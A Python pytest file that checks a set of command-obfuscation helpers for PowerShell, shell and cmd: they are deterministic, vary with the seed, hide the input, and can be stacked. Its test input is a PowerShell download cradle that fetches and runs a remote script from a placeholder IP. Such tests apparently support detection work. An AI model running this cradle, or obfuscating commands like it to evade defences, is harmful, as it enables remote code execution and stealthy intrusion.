"""The obfuscation helpers are deterministic, really obfuscate, and compose with `stack`."""

from __future__ import annotations

import pytest

from tests.obfuscation import obfuscators as ob

COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.10/a.ps1')"
ALL = ob.POWERSHELL + ob.SHELL + ob.CMD


@pytest.mark.parametrize("transform", ALL, ids=lambda f: f.__name__)
def test_same_seed_same_output_and_the_command_is_hidden(transform) -> None:
    first = transform(COMMAND, 7)
    assert first == transform(COMMAND, 7)
    if transform not in (ob.ps_random_case, ob.ps_backticks, ob.cmd_env_substring, ob.cmd_for_delims,
                         ob.cmd_call, ob.sh_ifs):
        assert COMMAND not in first


def test_different_seeds_vary_the_output() -> None:
    assert len({ob.ps_format_operator(COMMAND, seed) for seed in range(5)}) > 1


def test_stack_applies_innermost_first() -> None:
    stacked = ob.stack(COMMAND, [ob.ps_concat, ob.ps_encoded_command], seed=3)
    assert stacked.lower().startswith(("powershell", "pwsh"))
    assert ob.stack(COMMAND, [], seed=3) == COMMAND


def test_helpers_are_listed_by_language() -> None:
    assert all(f.__name__.startswith("ps_") for f in ob.POWERSHELL)
    assert all(f.__name__.startswith("sh_") for f in ob.SHELL)
    assert all(f.__name__.startswith("cmd_") for f in ob.CMD)
